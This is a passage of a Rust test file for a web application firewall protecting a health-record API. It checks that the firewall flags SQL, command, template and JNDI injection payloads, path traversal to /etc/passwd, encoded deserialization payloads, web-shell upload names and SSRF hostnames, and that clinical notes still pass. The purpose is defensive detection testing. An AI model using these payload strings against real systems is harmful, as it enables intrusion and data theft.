            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
            "ssti",
        ),
        ("....\\\\....\\\\etc\\\\passwd", "lfi"),
        ("\\\\evil\\share\\x", "rfi"),
        ("\\\\10.0.0.1@SSL\\DavWWWRoot\\x", "rfi"),
        ("/WEB-INF/web.xml", "lfi"),
        ("127.0.0.1; ls", "rce"),
        ("8.8.8.8|id", "rce"),
        ("10.0.0.1 && whoami", "rce"),
        ("127.000.000.001;id", "rce"),
        ("c\\at /et\\c/pas\\swd", "lfi"),
        ("x;w\\ho\\am\\i", "rce"),
        ("admin' #", "sqli"),
        ("admin\"/*", "sqli"),
        ("root@example.com'/* comment */;", "sqli"),
        ("1 or true", "sqli"),
        ("-1 AND false--", "sqli"),
        ("2 || true", "sqli"),
        (
            "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71),1234)",
            "sqli",
        ),
        ("x json_keys ((select 1))", "sqli"),
        ("%C0%AE%C0%AE%C0%AF", "encoding"),
    ];

#[test]
fn attacks_are_found_in_every_class() {
    let cases = ATTACKS;
    for (raw, class) in cases {
        assert_eq!(hit(raw), Some(*class), "{raw}");
    }
}

#[test]
fn orm_lookups_ldap_filters_and_includer_parameters_are_found_as_names() {
    let name_hit = |n: &str| name(&normalise(n.as_bytes(), Plus::Space)).map(|h| h.rule);
    for (attack, rule) in [
        ("created_by__user__password__startswith", "orm-110"),
        ("email__iendswith", "orm-110"),
        ("data__has_key", "orm-110"),
        ("session=value)(uid=*", "ldapi-110"),
        ("a[constructor][prototype]", "proto-110"),
        ("mosConfig_absolute_path", "rfi-130"),
        ("_CONF[path]", "rfi-130"),
    ] {
        assert_eq!(name_hit(attack), Some(rule), "{attack}");
    }
    // FHIR's own parameters and modifiers use one underscore or a colon.
    for fine in [
        "_lastUpdated",
        "code:in",
        "date",
        "_has:Observation:patient:code",
        "first__name",
        "in",
    ] {
        assert_eq!(name_hit(fine), None, "{fine}");
    }
}

#[test]
fn scanners_are_known_by_their_user_agent() {
    let agent = |ua: &str| scanner(ua.as_bytes()).map(|h| h.rule);
    for ua in [
        "Mozilla/5.0 zgrab/0.x",
        "sqlmap/1.8#stable (https://sqlmap.org)",
        "Nuclei - Open-source project",
        "Mozilla/4.0 (compatible; MSIE 7.0) Havij",
    ] {
        assert_eq!(agent(ua), Some("scanner-100"), "{ua}");
    }
    for ua in [
        "phr-app/1.4 (iOS 17.5)",
        "OWASP CRS test agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "python-httpx/0.27",
        "curl/8.5.0",
    ] {
        assert_eq!(agent(ua), None, "{ua}");
    }
}

#[test]
fn session_ids_as_parameter_names_are_found() {
    let name_hit = |n: &str| name(&normalise(n.as_bytes(), Plus::Space)).map(|h| h.rule);
    for id in [
        "JSESSIONID",
        "laravel_session",
        "__Host-next-auth.session-token",
        "sessionid",
    ] {
        assert_eq!(name_hit(id), Some("session-110"), "{id}");
    }
    for fine in ["session", "patient", "session_date", "sid"] {
        assert_eq!(name_hit(fine), None, "{fine}");
    }
}

#[test]
fn whole_paths_are_held_to_the_path_rules() {
    let path_hit = |p: &str| path(&normalise(p.as_bytes(), Plus::Literal)).map(|h| h.rule);
    for attack in [
        "/api/.claude/settings.json",
        "/x/.cursor/mcp.json",
        "/get/proc/interrupts",
        "/@fs/etc/passwd",
        "/wp-content/debug.log",
        "/backup.sql.zip",
        "/.cursorignore",
        "/.junie/guidelines.md",
        "/@id/__x00__",
        "/get/sys/class",
    ] {
        assert_eq!(path_hit(attack), Some("lfi-130"), "{attack}");
    }
    assert_eq!(path_hit("/get/https://example.com/"), Some("rfi-140"));
    for fine in [
        "/fhir/Observation/o-1",
        "/fhir/Patient/p-001/$everything",
        "/fhir/Binary/scan.v2.json",
        "/fhir/.well-known/smart-configuration",
        "/.phr/consents",
        "/fhir/DocumentReference/process-notes",
    ] {
        assert_eq!(path_hit(fine), None, "{fine}");
    }
}

/// The words' automaton builds from the constants: should it not, no base64 word would
/// ever be found.
#[test]
fn the_base64_word_automaton_builds() {
    let (words, shortest) = base64_word_automaton().expect("the base64 word automaton builds");
    assert!(*shortest >= 5, "{shortest}");
    assert_eq!(words.patterns_len(), compiled().base64_words.len());
}

/// A file's decoded bytes get the verdict its base64 gets: every word and the stream
/// header, at each byte offset, inside binary noise; and none on noise alone.
#[test]
fn the_base64_rules_on_decoded_bytes_agree_with_them_on_the_base64() {
    use base64::Engine as _;
    let noise: Vec<u8> = (0u32..300)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    let words: Vec<Vec<u8>> = serialized_word_forms().map(|(w, _)| w).collect();
    for word in &words {
        for offset in 0..7 {
            let bytes = [&noise[..offset], word, &noise[100..]].concat();
            let on_base64 = plain_value(b64(&bytes).as_bytes()).map(|h| h.rule);
            let on_bytes = decoded_file(&bytes).map(|h| h.rule);
            assert!(on_bytes.is_some(), "{word:?} at {offset}");
            assert_eq!(on_bytes, on_base64, "{word:?} at {offset}");
        }
    }
    // The stream header is found wherever it is (CRS's base64 spellings, `rO0ABQ` …, also
    // ask that the byte after it be under 0x10).
    for offset in 0..7 {
        let bytes = [&noise[..offset], &JAVA_STREAM_HEADER, &noise[100..]].concat();
        assert_eq!(decoded_file(&bytes).map(|h| h.rule), Some("java-130"));
    }
    // A serialized object sent whole, with another version byte.
    let object = [&[0xAC, 0xED, 0x00, 0x06][..], &noise[..40]].concat();
    assert_eq!(decoded_file(&object).map(|h| h.rule), Some("java-110"));
    assert_eq!(
        plain_value(b64(&object).as_bytes()).map(|h| h.rule),
        Some("java-110")
    );
    assert_eq!(decoded_file(&noise), None);
    assert_eq!(plain_value(b64(&noise).as_bytes()), None);
}

#[test]
fn base64_words_are_found_in_plain_values() {
    let plain_hit = |raw: &str| plain_value(raw.as_bytes()).map(|h| h.rule);
    for (attack, rule) in [
        ("cnVudGltZQ", "java-130"),
        ("HJ1bnRpbWU", "java-130"),
        ("rO0ABQ", "java-130"),
        ("KztAAU", "java-130"),
        ("Cs7QAF", "java-130"),
        // A serialized object sent whole: `AC ED 00 05 73 72 …`.
        ("rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5v", "java-110"),
        ("XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK", "nodejs-110"),
        (
            "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoJ3dob2FtaScpCg",
            "nodejs-110",
        ),
    ] {
        assert_eq!(plain_hit(attack), Some(rule), "{attack}");
    }
    for fine in [
        "Observation",
        "p-001",
        "2026-04-10",
        "f001",
        "self-management",
        "8f14e45fceea167a5a36dedd4bea2543",
        "eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9",
        "SGVsbG8gd29ybGQ",
        // The stream's header only counts where the value starts, as written.
        "xrO0ABXNy",
        "ro0abxny",
    ] {
        assert_eq!(plain_hit(fine), None, "{fine}");
    }
}

/// The pre-filter in front of the base64 automaton may skip a value only if no pattern
/// could be in it.
#[test]
fn every_base64_pattern_has_the_marks_the_prefilter_counts() {
    let (patterns, _) = base64_patterns();
    for p in &patterns {
        let marked = p.bytes().skip(1).filter(|&b| upper_or_digit(b)).count();
        assert!(marked >= BASE64_MARKED, "{p}");
        assert!(base64_words(p.as_bytes()).is_some(), "{p}");
        assert!(
            base64_words(format!("x{p}").as_bytes()).is_some(),
            "{p} inside a run"
        );
    }
}

#[test]
fn headers_that_reach_past_the_gateway_are_found() {
    let rule = |n: &str, v: &str| header(n, v.as_bytes(), "/fhir/Observation").map(|h| h.rule);
    for (name, value, expected) in [
            ("x-http-method-override", "DELETE", "protocol-101"),
            ("x-method-override", "PUT", "protocol-101"),
            ("x-original-url", "/fhir/Patient/p-2", "protocol-102"),
            ("x-rewrite-url", "/admin", "protocol-102"),
            ("x-original-uri", "/fhir/Patient/p-2?_format=json", "protocol-102"),
            ("x_http_method_override", "DELETE", "protocol-101"),
            ("x-original_url", "/fhir/Patient/p-2", "protocol-102"),
            ("request-range", "bytes=0-1023", "protocol-110"),
            ("lock-token", "<opaquelocktoken:1>", "protocol-110"),
            ("x-middleware-subrequest", "middleware", "protocol-110"),
            ("content-encoding", "deflate", "protocol-110"),
            (
                "content-type",
                "text/plain; charset=garbage",
                "protocol-120",
            ),
            (
                "content-type",
                "application/json; charset=\"UTF-80\"",
                "protocol-120",
            ),
            (
                "content-type",
                "application/x-www-form-urlencoded;charset=utf-7",
                "protocol-120",
            ),
            (
                "range",
                "bytes=1-10,11-20,21-30,31-40,41-50,51-60",
                "protocol-130",
            ),
            (
                "cookie",
                "$Version=1; session=\"a; PHPSESSID=b\"",
                "protocol-160",
            ),
            (
                "content-type",
                "application/x-www-form-urlencoded;boundary=\"application/json\"",
                "protocol-120",
            ),
            // CRS 920470, 920530: Content-Types two parsers read two ways.
            (
                "content-type",
                "text/plain; charset=\"UTF-8\"; garbage",
                "protocol-170",
            ),
            ("content-type", "text/xml; blah", "protocol-170"),
            (
                "content-type",
                "text/plain; a=1; b=2; c=3; d=4; e=5; f=6; g=7; h=8; i=9",
                "protocol-170",
            ),
            (
                "content-type",
                "multipart/form-data; boundary=  test_data_123456",
                "protocol-170",
            ),
            (
                "content-type",
                "application/x-www-form-urlencoded; charset=utf-8; CHARSET=utf-7",
                "protocol-170",
            ),
            ("content-type", "", "protocol-170"),
            ("content-type", "application", "protocol-170"),
            ("content-type", "text/plain; charset=\"utf-8", "protocol-170"),
            ("content-type", "text/plain; charset=/gar/bage", "protocol-170"),
            // CRS 920600: an answer asked for in EBCDIC.
            ("accept", "text/html;q=0.9;charset=CP1026,*/*;q=0.8", "protocol-120"),
            // CRS 920210: conflicting or repeated connection options.
            ("connection", "keep-alive,close", "protocol-180"),
            ("connection", "close, close", "protocol-180"),
            // RFC 9110 section 14.4: a request range of a representation is not a thing.
            ("content-range", "bytes 4096-8192/8192", "protocol-110"),
            ("accept-charset", "utf-8", "protocol-110"),
            // A Range not in RFC 9110's form (CRS 921230), or more than five.
            ("range", "0-1", "protocol-130"),
            ("range", "bytes=a-b", "protocol-130"),
            ("range", "bytes=-", "protocol-130"),
            ("range", "items=0-1", "protocol-130"),
            ("range", "bytes=1-2,3-4,5-6,7-8,9-10,11-12", "protocol-130"),
            // CRS 920275: Fetch metadata a browser never sends.
            ("sec-fetch-user", "foo", "protocol-200"),
            ("sec-ch-ua-mobile", "?2", "protocol-200"),
            ("sec-fetch-site", "evil", "protocol-200"),
            ("sec-fetch-mode", "cors, navigate", "protocol-200"),
            // CRS 920520: a long coding list.
            ("accept-encoding", "gzip;q=1.0, deflate;q=0.9, br;q=0.8, zstd;q=0.7, compress;q=0.6, x-gzip;q=0.5, identity;q=0.4, *;q=0.1", "protocol-190"),
            // CRS 920521: a coding no one registered, or a parameter other than a weight.
            ("accept-encoding", "foobar", "protocol-190"),
            ("accept-encoding", "gzip;level=9", "protocol-190"),
            // CRS 920510: response directives, unknown ones, arguments that are no number.
            ("cache-control", "private", "protocol-220"),
            ("cache-control", "foo=bar", "protocol-220"),
            ("cache-control", "max-age=1, foo=bar", "protocol-220"),
            ("cache-control", "max-age=x", "protocol-220"),
            ("cache-control", "no-cache=\"set-cookie\"", "protocol-220"),
        ] {
            assert_eq!(rule(name, value), Some(expected), "{name}: {value}");
        }
    for (name, value) in [
        ("content-encoding", "identity"),
        // Look-alikes of the target overrides are other headers.
        ("x-original-forwarded-for", "192.0.2.1"),
        ("x-url-scheme", "https"),
        ("content-type", "application/fhir+json; charset=utf-8"),
        ("content-type", "text/plain; charset=ISO-8859-1"),
        ("content-type", "text/plain; charset=windows-1252"),
        ("content-type", "application/json"),
        ("range", "bytes=0-1023,2048-4095"),
        ("range", "bytes=-500"),
        ("range", "bytes=9500-"),
        ("range", "bytes=0-0, -1"),
        ("range", "Bytes=0-499"),
        ("sec-fetch-user", "?1"),
        ("sec-fetch-site", "same-origin"),
        ("sec-fetch-mode", "navigate"),
        ("sec-ch-ua-mobile", "?0"),
        ("cookie", "session=abc; theme=dark"),
        ("content-type", "multipart/form-data; boundary=xyz"),
        (
            "content-type",
            "application/x-www-form-urlencoded; charset='utf-8'",
        ),
        ("if-match", "W/\"3\""),
        ("x-request-id", "01a2"),
        ("content-type", "text/plain;"),
        ("content-type", "application/json;charset=\"utf-8\""),
        (
            "content-type",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        ),
        (
            "content-type",
            "multipart/mixed; boundary=-----boundary_data:55780(123,45:667)+part",
        ),
        (
            "content-type",
            "text/plain; title=\"a\\\"b\"; format=flowed",
        ),
        ("accept", "application/fhir+json;charset=utf-8, */*;q=0.5"),
        ("accept", "text/html;q=0.9,*/*;q=0.8"),
        ("connection", "keep-alive, Upgrade"),
        ("connection", "close"),
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("accept-encoding", "compress;q=0.5, gzip;q=1.0"),
        ("accept-encoding", "gzip;q=1.0, identity; q=0.5, *;q=0"),
        ("accept-encoding", ""),
        ("accept-encoding", "GZIP,,deflate"),
        ("cache-control", "no-cache"),
        ("cache-control", "max-age=123, max-stale, no-cache"),
        ("cache-control", "no-cache, no-store, must-revalidate"),
        ("cache-control", "max-age=1,,,max-stale=2"),
        ("cache-control", "Max-Age=0"),
        (
            "cache-control",
            "only-if-cached, min-fresh=60, stale-if-error=300",
        ),
    ] {
        assert_eq!(rule(name, value), None, "{name}: {value}");
    }
    let crlf_path = normalise(b"/foo%0Abar", Plus::Literal);
    assert_eq!(path(&crlf_path).map(|h| h.rule), Some("protocol-150"));
    let six = "bytes=1-2,3-4,5-6,7-8,9-10,11-12";
    assert_eq!(
        header("range", six.as_bytes(), "/docs/report.PDF"),
        None,
        "a PDF viewer's ranges"
    );
    let many = vec!["1-2"; 63].join(",");
    assert_eq!(
        header(
            "range",
            format!("bytes={many}").as_bytes(),
            "/docs/report.pdf"
        )
        .map(|h| h.rule),
        Some("protocol-130"),
        "63 ranges even of a PDF"
    );
    let overridden = |n: &str, v: &str| method_override(n, v, None).map(|h| h.rule);
    let in_query = |v: &str, m: &str| method_override("_method", v, Some(m)).map(|h| h.rule);
    assert_eq!(in_query("POST", "GET"), Some("protocol-100"));
    assert_eq!(in_query("GET", "POST"), Some("protocol-100"));
    assert_eq!(in_query("abcdefghij", "POST"), Some("protocol-100"));
    for (v, m) in [
        ("post", "POST"),
        ("AB", "POST"),
        ("ABCDEFGHIJK", "POST"),
        ("DELETE1", "POST"),
        ("X-DELETE", "POST"),
        ("", "POST"),
    ] {
        assert_eq!(in_query(v, m), None, "{v} on {m}");
    }
    assert_eq!(
        rule("x_custom_trace", "1"),
        None,
        "other names with `_` pass"
    );
    assert_eq!(overridden("_method", "delete"), Some("protocol-100"));
    assert_eq!(overridden("_method", "put"), Some("protocol-100"));
    for (n, v) in [
        ("_method", "post"),
        ("_method", "x-delete"),
        ("_method", ""),
        ("method", "delete"),
    ] {
        assert_eq!(overridden(n, v), None, "{n}={v}");
    }
    assert_eq!(
        path(&normalise(b"/get/dump.rdb", Plus::Literal)).map(|h| h.rule),
        Some("lfi-130")
    );
    assert_eq!(path(&normalise(b"/fhir/Binary/b-1", Plus::Literal)), None);
}

#[test]
fn upload_names_that_a_server_would_run_are_found() {
    let name_hit = |n: &str| file_name(n).map(|h| h.rule);
    for (attack, rule) in [
        ("a.php..", "php-150"),
        ("fda.php5", "php-150"),
        ("fthi/sfewfda.phtml", "php-150"),
        ("dangerous. phtml", "php-150"),
        ("x.PHAR", "php-150"),
        ("shell.jsp ", "java-140"),
        ("foo.jspx...", "java-140"),
        ("sess_12345678901234567890", "php-160"),
        ("C:\\temp\\sess_malicious12345678901", "php-160"),
        // rce-250: a server's own configuration or credentials.
        (".htaccess", "rce-250"),
        ("wp-config-php.bak", "rce-250"),
        ("config.yml ", "rce-250"),
        (".boto", "rce-250"),
        ("uploads/.user.ini", "rce-250"),
    ] {
        assert_eq!(name_hit(attack), Some(rule), "{attack}");
    }
    for fine in [
        "checkup.pdf",
        "php-notes.txt",
        "photo.php.jpg",
        "scan.jpeg",
        "session.txt",
        "sess_1",
        "jsp-manual.pdf",
        "config-report.pdf",
        "my.htaccess.txt",
        "settings.png",
    ] {
        assert_eq!(name_hit(fine), None, "{fine}");
    }
}

#[test]
fn base64_padding_is_no_expression_but_an_equals_sign_inside_is() {
    // An attachment's base64 (its only candidate character the closing `=`) is not
    // handed to libinjection; a comparison in the value still is.
    assert!(!libinjection_sqli(
        "MS4yLjg0MC4xMTQzNTAuMS4xMy4wLjEuNy4xLjE="
    ));
    assert!(!libinjection_sqli("="));
    assert!(libinjection_sqli("1 or 1=1"));
    assert!(libinjection_sqli("1 or 1=1 limit 1=="));
}

#[test]
fn quoted_words_as_prose_writes_them_are_not_sql() {
    for prose in [
        "Rate as \"none\", \"mild\", \"moderate\" or \"severe\"",
        "Label says \"take with food\"",
        "\"Fasting\" was ticked (\"yes\").",
    ] {
        assert!(quoted_words(prose.as_bytes()), "{prose}");
        assert!(!libinjection_sqli(prose), "{prose}");
    }
    for code in [
        "\" or \"1\"=\"1",
        "x\" or \"a\"=\"a",
        "\"x\" union select \"y\"",
        "a \"union select password from users where\" 1",
        "\"a\" or \"1\"",
        "\"unclosed",
        "\"a\"=\"a\"",
        "\"a\" or 1",
        "\"a\" order by \"b\"",
        "\"a\" or true",
    ] {
        assert!(!quoted_words(code.as_bytes()), "{code}");
    }
    for attack in ["\" or \"1\"=\"1", "1\" or \"x\"=\"x\" --"] {
        assert!(libinjection_sqli(attack), "{attack}");
    }
}

#[test]
fn parentheses_as_prose_writes_them_are_not_sql() {
    for prose in [
        "Blood pressure systolic 0-0 (sitting)",
        "Body mass index (BMI) [Ratio]",
        "(normal)",
        "検査(基準値内)",
        "Oxycodone Hydrochloride 5mg oral tablet (Roxicodone",
        "Service User (Logon)",
        "take with food (q.d.)",
        "while (foo) is bar.",
        "4-(Dimethylamino)benzoic acid",
        "2-(aminomethyl)phenol",
        "3-(N-morpholino)propanesulfonic acid",
    ] {
        assert!(prose_parentheses(prose.as_bytes()), "{prose}");
        assert!(!libinjection_sqli(prose), "{prose}");
    }
    for code in [
        "sleep(5)",
        "1) or (1",
        "x) or (y",
        "(select 1)",
        "( select 1)",
        "(SELECT password FROM users",
        "(1)",
        "1234.5) ORDER BY 1",
        "a (b) || c",
        "(true)",
        "(note) and more",
        "FormatCode(s)",
        "id having (1 or true)",
        "1-(select 1)",
        "1-(2)",
        "x -(a)",
    ] {
        assert!(!prose_parentheses(code.as_bytes()), "{code}");
    }
    // What libinjection refuses still reaches it.
    for attack in [
        "1 and (select sleep(5))",
        "(select id from users limit 1,1)",
        "1234.5) ORDER BY 1",
        "id having (1 or 1)",
    ] {
        assert!(libinjection_sqli(attack), "{attack}");
    }
}

/// An apostrophe inside a word is English's (`Murphy's`, `can't`); with an aside and an
/// `and` in the note, libinjection refused it. A quote that starts, ends or joins SQL
/// words still sends the value to libinjection.
#[test]
fn a_lone_apostrophe_inside_a_word_is_english() {
    for note in [
        "Sign (positive) Murphy's and RUQ tenderness",
        "Left (dominant) hand weakness and can't grip",
        "Count (platelets) low and patient's INR 2.5",
    ] {
        assert!(lone_apostrophe(note.as_bytes()), "{note}");
        assert!(!libinjection_sqli(note), "{note}");
    }
    for code in [
        "sdfsd'or 1 > 1",
        "aa'OR current_date*0",
        "x'union select 1",
        "a'b'c",
        "'abc",
        "abc'",
        "abc' or 1",
        "x\\'y",
    ] {
        assert!(!lone_apostrophe(code.as_bytes()), "{code}");
    }
    for attack in ["sdfsd'or 1 > 1", "aa'or current_date*0"] {
        assert!(libinjection_sqli(attack), "{attack}");
    }
}

/// A `;` that separates a note's items (`Count (WBC) high; CRP elevated and fever`) no
/// longer sends it to libinjection; a stacked query's `;` still does, and is refused.
#[test]
fn list_semicolons_are_not_stacked_queries() {
    for note in [
        "Count (WBC) high; CRP elevated and fever",
        "Upper (GI) bleed ruled out; Hb stable and BUN normal",
        "Lower (L5) radiculopathy; patient's SLR positive and improving",
        "Format (PDF) uploaded; reviewed and signed",
    ] {
        assert!(!libinjection_sqli(note), "{note}");
        assert_eq!(hit(note), None, "{note}");
    }
    for attack in [
        "1; select pg_sleep(5)",
        "1; SELECT password FROM users",
        "1;select 1",
        "1;\tselect 1",
        "1; exec master..xp_cmdshell 'dir'",
        "1; xp_cmdshell dir",
        "1; copy (select 1) to program 'id'",
        "1; attach database 'x.db' as x",
        "x; update users set role = 1",
        "1; declare @q varchar(99)",
        "1; insert into users values (1)",
        "1; drop table x",
        "1; truncate users",
        "'; truncate users;--",
        "1;truncate table users",
        "1; begin dbms_lock.sleep(5); end",
        "1; (select 1)",
        "1; /**/select 1",
    ] {
        assert!(hit(attack).is_some(), "{attack}");
    }
    let stacked =
        |v: &str| stacked_statement(&normalise(v.as_bytes(), Plus::Space).folded).map(|h| h.rule);
    for attack in [
        "1;select 1",
        "1;\tSELECT * FROM users",
        "1; /**/select @@version",
        "1; (select name from users)",
        "1; xp_cmdshell dir",
        "1; copy (select 1) to program 'id'",
        "1; insert into t values (1)",
        "x; update users set role = 1",
        "1; delete from users",
        "1; create user x",
        "1; declare @q int",
        "1; set @a = 1",
        "1; load data infile 'x'",
        "1; attach database 'x.db' as x",
        "1; exec('x')",
        "1; exec master..xp_cmdshell 'dir'",
        "1; exec (@sql)",
        "1;select@@version",
        "1; shutdown",
        "1; truncate users",
        "'; truncate users;--",
        "1; truncate users /* x */",
    ] {
        assert_eq!(stacked(attack), Some("sqli-130"), "{attack}");
    }
    for note in [
        "Plan: recheck; select appropriate dose",
        "labs normal; update family",
        "BP 130/80; set goal 120/80",
        "f/u 2 wks; call if worse",
        "; copy to patient",
        "discussed; delete old allergy entry",
        "reviewed; insert IUD next visit",
        "done; shutdown of clinic for holidays",
        "lipids high; truncate the fried food, not the statin",
        "select the appropriate dose; drop by 5 mg if bp < 100",
    ] {
        assert_eq!(stacked(note), None, "{note}");
    }
}

/// Every value rule that could be gated by its prefix literals is: a rule that falls
/// into the ungated set (an alternative whose literal prefix is one byte, or a class of
/// more than eight bytes right after one: `\{\d`) is scanned over every value and costs
/// every first sight of a text (ssti-100 did, for one alternative, in 7e6092b).
#[test]
fn the_ungated_value_rules_are_the_known_ones() {
    let values = &compiled().values;
    let ungated: Vec<&str> = values
        .unprefixed_rules
        .iter()
        .map(|&i| values.rules[i].id)
        .collect();
    assert_eq!(
        ungated,
        [
            "orm-100",
            "rce-100",
            "rce-141",
            "rce-105",
            "rce-106",
            "rce-190",
            "rce-150",
            "rce-180",
            "php-140",
            "php-170",
            "xss-132",
            "rce-233",
            "rce-235",
            "lfi-120",
            "nosql-100",
        ]
    );
}

/// `sqli-120`'s two shapes, and what prose writes close to them.
#[test]
fn login_comments_and_constant_conditions_are_sql() {
    let shape = |v: &str| sql_value_shape(&normalise(v.as_bytes(), Plus::Space).folded);
    for attack in [
        "admin' #",
        " admin'-- ",
        "a.b@c.jp\"/*",
        "1 or true",
        "10 OR TRUE -- x",
        "-12 and false#",
        "3 || true;",
    ] {
        assert_eq!(shape(attack).map(|h| h.rule), Some("sqli-120"), "{attack}");
    }
    for prose in [
        "7\" #2 circular needle",
        "Mary's #1 concern",
        "O'Neil -- called back",
        "1 or 2 tablets",
        "1 or truly more",
        "1 and false alarm",
        "1 or true-ish",
        "or true",
        "admin #1",
    ] {
        assert_eq!(shape(prose), None, "{prose}");
    }
}

/// Clinical notes put asides after words SQL also names functions (`Left (arm)`,
/// `Count (WBC)`, `Upper (GI)`) and join findings with `and`: libinjection read each as
/// a call in a condition and refused the note. Asides are not SQL's; what an injection
/// does with parentheses still reaches libinjection and is refused.
#[test]
fn asides_in_clinical_notes_are_not_sql() {
    for note in [
        "Left (arm) 130/80 and right (arm) 128/78",
        "Count (WBC) 5.4 and Hb 13.2",
        "Upper (GI) endoscopy normal and biopsy negative",
        "Lower (L4-L5) back pain and sciatica",
        "Max (peak) flow 350 L/min and improving",
        "Hour (0) glucose 90 and hour (2) glucose 140",
        "One quarter (24%) of people have had an affair and cheated",
        "Format (PDF) report attached and reviewed",
        "(fasting OR nonfasting) AND glucose",
        "User (patient) reports improvement and no side effects",
        "左腕 (座位) 130/80 and 右腕 128/78",
    ] {
        assert!(prose_parentheticals(note.as_bytes()), "{note}");
        assert!(!libinjection_sqli(note), "{note}");
    }
    for code in [
        "1 and length (password) > 5",
        "-1.5 or ascii (x) > 64",
        "and (password) like 0x61",
        "id having (1 or true)",
        "x) or (y",
        "a (b) or (c",
        "a (b (c) d) or e",
        "a(b) or c",
        "a (b) || c",
        "x (select 1) or y",
        "1 or (1)",
        "name (x) or y order by (2)",
    ] {
        assert!(!prose_parentheticals(code.as_bytes()), "{code}");
    }
    for attack in [
        "1 and length (password) > 5",
        "-1 or ascii (x) > 64",
        "id having (1 or true)",
        "x) or (y",
        "1 or (1)",
    ] {
        assert!(libinjection_sqli(attack), "{attack}");
    }
}

/// The byte sets `value_with` asks a short value about before it runs `split_word` and
/// libinjection are what those need: over text whose only special character is one
/// ASCII byte, in shapes that fire them, each fires only for bytes of its set (and does
/// fire, for several of them).
#[test]
fn the_pre_checked_bytes_are_the_ones_the_detectors_need() {
    let split_shapes = |c: char| {
        [
            format!("ab{c}cd ef"),
            format!("cu{c}v r l"),
            format!("{c}i{c}fconfig"),
            format!("x{c}{c}i{c}fconfig"),
            format!("ti{c}{c}me"),
            format!("una{c}{c}me"),
        ]
    };
    let sql_shapes = |c: char| {
        [
            format!("1{c}or{c}1{c}{c}x"),
            format!("1 {c}{c} or 1 1{c}"),
            format!("x{c} or {c}y"),
            format!("admin{c}{c} x"),
            format!("1{c} union select 1{c}{c}"),
        ]
    };
    let (mut split, mut sql) = (Vec::new(), Vec::new());
    for byte in 0..0x80u8 {
        let c = char::from(byte);
        if split_shapes(c).iter().any(|t| split_word(t).is_some()) {
            split.push(byte);
        }
        if sql_shapes(c).iter().any(|t| libinjection_sqli(t)) {
            sql.push(byte);
        }
    }
    let within = |fired: &[u8], set: &[u8]| fired.iter().all(|b| set.contains(b));
    assert!(
        within(&split, SPLIT_WORD_BYTES),
        "{:?}",
        String::from_utf8_lossy(&split)
    );
    assert!(split.len() >= 4, "{:?}", String::from_utf8_lossy(&split));
    assert!(
        within(&sql, SQL_BREAKOUT_BYTES),
        "{:?}",
        String::from_utf8_lossy(&sql)
    );
    assert!(sql.len() >= 4, "{:?}", String::from_utf8_lossy(&sql));
}

/// A FHIR local reference or a URL's fragment is no MySQL comment; any other `#` still
/// sends the value to libinjection, which refuses what it closes.
#[test]
fn references_and_url_fragments_are_no_sql_comment() {
    for reference in [
        "#reporter",
        "#19",
        "http://loinc.org/rdf#54124-3",
        "https://example.org/fhir/ValueSet/x#v1.2_a",
    ] {
        let at = reference.find('#').unwrap();
        assert!(reference_fragment(reference.as_bytes(), at), "{reference}");
        assert!(!libinjection_sqli(reference), "{reference}");
    }
    for comment in [
        "Local #35",
        "Platelets [#/volume] in Blood",
        "1 or true#x",
        "1-0#x",
        "#",
        "admin#",
        "#x y",
        "http://a.example/ or 1#x",
        "loinc.org/rdf#54124-3",
    ] {
        let at = comment.find('#').unwrap();
        assert!(!reference_fragment(comment.as_bytes(), at), "{comment}");
    }
    for attack in ["1 or 1#", "-1 or 1#x", "1 union select 1#", "1 or true#x"] {
        assert!(libinjection_sqli(attack), "{attack}");
    }
}

/// An HL7 v2 message is read field by field: its separators are no shell syntax, and an
/// injection inside a field is still found (R-WAF-1).
#[test]
fn hl7_v2_messages_are_read_by_field() {
    let message = "MSH|^~\\&|LAB|HOSP|PHR|APP|20261127||ORU^R01|M1|P|2.5.1\rPID|1||12345^^^HOSP^MR||YAMADA^TARO||19800101|M\rOBX|1|NM|2093-3^Cholesterol^LN||210|mg/dL|<200|H|||F\rOBX|2|ID|11556-8^Oxygen^LN||Y||||||F\rNTE|1||rash & hives; cat allergy";
    assert_eq!(hit(message), None);
    // The same text without its `MSH` header is no message: `|ID|` pipes to `id`.
    assert_eq!(
        hit(&message[message.find('\r').unwrap() + 1..]),
        Some("rce")
    );
    for (field, class) in [
        ("' or 1=1--", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ("; cat /etc/passwd", "lfi"),
        ("$(id)", "rce"),
        ("${jndi:ldap://x.example/a}", "jndi"),
    ] {
        let attack = format!("{message}\rOBX|3|ST|x||{field}");
        assert_eq!(hit(&attack), Some(class), "{field}");
    }
}

/// A public name that spells an address reaches it (R-WAF-1, SSRF): a wildcard DNS
/// service answers with the address the name holds, dotted, dashed or in hexadecimal.
#[test]
fn names_that_spell_an_internal_address_are_internal() {
    for host in [
        "127.0.0.1.nip.io",
        "app.10.0.0.5.nip.io",
        "magic-127-0-0-1.sslip.io",
        "192-168-1-1.traefik.me",
        "7f000001.nip.io",
        "app-a9fea9fe.xip.io",
        "169.254.169.254.attacker.example",
    ] {
        assert!(internal_host(host), "{host}");
    }
    for host in [
        "1.2.3.4.nip.io",
        "8-8-8-8.sslip.io",
        "08080808.nip.io",
        "www.nip.io",
        "10.example.org",
        "1.0.0.127.in-addr.arpa",
        "v1.2.3.4.example.org",
    ] {
        assert!(!internal_host(host), "{host}");
    }
}

#[test]
fn ordinary_values_pass() {
    for raw in [
        // A note's line that starts with a prose word (`rce-100`), passwords whose `$`
        // joins no program's name (`rce-220`), a language tag after `aa-` (`rce-105`), a
        // mail domain (`java-120`).
        "Seen today.\nID card renewed at the front desk.",
        "Plan:\nCat scan booked for Monday",
        "Pa$$word1!",
        "7AY$Towh+P",
        "*ZL8b$*n1@",
